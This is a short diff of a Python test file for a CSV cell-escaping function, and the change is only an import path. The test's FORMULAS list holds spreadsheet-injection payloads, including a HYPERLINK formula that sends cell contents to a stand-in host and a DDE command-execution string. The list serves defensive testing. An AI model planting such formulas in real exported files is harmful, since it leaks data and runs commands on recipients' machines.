@@ -4,7 +4,7 @@ from __future__ import annotations
 
 import pytest
 
-from stampbook.http.csv_cells import cell
+from stampbook.dialects.csv_cells import cell
 
 FORMULAS = [
     '=HYPERLINK("http://example.org?x="&A1,"click")', "=1", "+1", "-1+cmd|'/C calc'!A1", "@SUM(A1)",
